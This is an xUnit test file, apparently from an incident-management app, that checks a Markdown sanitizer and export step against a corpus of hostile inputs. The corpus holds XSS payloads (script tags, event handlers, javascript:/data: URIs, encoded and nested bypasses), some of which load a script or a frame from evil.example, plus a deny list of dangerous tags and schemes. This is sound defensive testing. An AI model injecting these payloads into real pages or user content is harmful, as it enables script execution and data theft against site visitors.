using System.Text.RegularExpressions;
using IncidentHub.Core.Markdown;

namespace IncidentHub.Tests.Core.Markdown;

/// <summary>
/// A corpus of hostile Markdown: whatever people (or attackers) write, the one renderer gives HTML with nothing that
/// runs, nothing that loads from elsewhere, and the download gives Markdown that a permissive renderer cannot turn
/// into anything that runs either.
/// </summary>
public sealed partial class HostileMarkdownTests
{
    public static TheoryData<string> Corpus =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click]( javascript:alert(1))",
        "[click](<javascript:alert(1)>)",
        "[click](&#106;avascript:alert(1))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![tracker](https://evil.example/pixel.gif)",
        "<svg onload=alert(1)><circle r=10 /></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<div><p><b onclick=alert(1)>nested</b></p></div>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<form action=\"https://evil.example\"><input name=p></form>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<details open ontoggle=alert(1)>",
        "[x](vbscript:msgbox(1))",
        "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">ok</a>",
        "`<script>alert(1)</script>` and ```\n<script>alert(1)</script>\n```",
        "> <img src=x onerror=alert(1)>\n> quoted",
        "- [ ] <input type=text onfocus=alert(1) autofocus>",
        "| a | b |\n|---|---|\n| <script>x</script> | [y](javascript:alert(1)) |",
        HugeTable(),
        string.Concat(Enumerable.Repeat("<div>", 2_000)) + "deep" + string.Concat(Enumerable.Repeat("</div>", 2_000)),
    ];

    private static string HugeTable() =>
        "| " + string.Join(" | ", Enumerable.Range(0, 60).Select(i => $"c{i}")) + " |\n|" + string.Concat(Enumerable.Repeat("---|", 60)) + "\n"
        + string.Concat(Enumerable.Range(0, 400).Select(r => "| " + string.Join(" | ", Enumerable.Range(0, 60).Select(c => $"<b onclick=x>{r}.{c}</b>")) + " |\n"));

    [Theory]
    [MemberData(nameof(Corpus))]
    public void TheRenderer_GivesNothingThatRuns_OrLoads(string markdown)
    {
        var html = new SafeMarkdown().ToHtml(markdown);

        AssertInert(html);
        Assert.DoesNotMatch(ImgTag(), html);
    }

    [Theory]
    [MemberData(nameof(Corpus))]
    public void TheDownload_StaysInert_EvenInARendererThatAllowsRawHtml(string markdown)
    {
        var exported = MarkdownForExport.Defang(markdown);
        var permissive = Markdig.Markdown.ToHtml(exported, Markdig.MarkdownExtensions.UseAdvancedExtensions(new Markdig.MarkdownPipelineBuilder()).Build());

        AssertInert(CodeBlocks().Replace(permissive, ""));
    }

    [Fact]
    public void OrdinaryMarkdown_StillReadsAsWritten()
    {
        var html = new SafeMarkdown().ToHtml("## Lessons\n\n- **Page** the [queue owner](https://wiki.example/q)\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |");

        Assert.Contains("<h2", html, StringComparison.Ordinal);
        Assert.Contains("<strong>Page</strong>", html, StringComparison.Ordinal);
        Assert.Contains("href=\"https://wiki.example/q\"", html, StringComparison.Ordinal);
        Assert.Contains("rel=\"noopener noreferrer nofollow\"", html, StringComparison.Ordinal);
        Assert.Contains("<table>", html, StringComparison.Ordinal);
        Assert.Contains("checkbox", html, StringComparison.Ordinal);
    }

    [Fact]
    public void ARemoteImage_IsALinkToIt_UnlessItsHostIsAllowed()
    {
        const string markdown = "![graph](https://grafana.example/render.png)";

        var refused = new SafeMarkdown().ToHtml(markdown);
        var allowed = new SafeMarkdown(["grafana.example"]).ToHtml(markdown);

        Assert.DoesNotContain("<img", refused, StringComparison.Ordinal);
        Assert.Contains("<a href=\"https://grafana.example/render.png\"", refused, StringComparison.Ordinal);
        Assert.Contains("Image (not shown): graph", refused, StringComparison.Ordinal);
        Assert.Contains("<img src=\"https://grafana.example/render.png\"", allowed, StringComparison.Ordinal);
    }

    [Fact]
    public void TheDownload_KeepsCodeAsWritten()
    {
        Assert.Equal("Run `kubectl get <pod>` then\n```\n<b>raw</b>\n```\n\\<b>", MarkdownForExport.Defang("Run `kubectl get <pod>` then\n```\n<b>raw</b>\n```\n<b>"));
    }

    /// <summary>Looks at the HTML as a browser parses it: escaped text is text, only real elements and attributes count.</summary>
    private static void AssertInert(string html)
    {
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument($"<body>{html}</body>");
        var elements = document.Body!.QuerySelectorAll("*");
        Assert.DoesNotContain(elements, e => e.LocalName is "script" or "iframe" or "object" or "embed" or "svg" or "math" or "form" or "style" or "meta" or "details" or "link" or "base");
        foreach (var element in elements)
        {
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"<{element.LocalName} {attribute.Name}>");
                Assert.NotEqual("style", attribute.Name, StringComparer.OrdinalIgnoreCase);
                if (attribute.Name is "href" or "src" or "action" or "data" or "formaction")
                {
                    Assert.DoesNotMatch(BadScheme(), attribute.Value);
                }
            }
        }
    }

    [GeneratedRegex("^\\s*(javascript|vbscript|data):", RegexOptions.IgnoreCase)]
    private static partial Regex BadScheme();

    [GeneratedRegex("<\\s*img", RegexOptions.IgnoreCase)]
    private static partial Regex ImgTag();

    [GeneratedRegex("<code>.*?</code>", RegexOptions.Singleline)]
    private static partial Regex CodeBlocks();
}
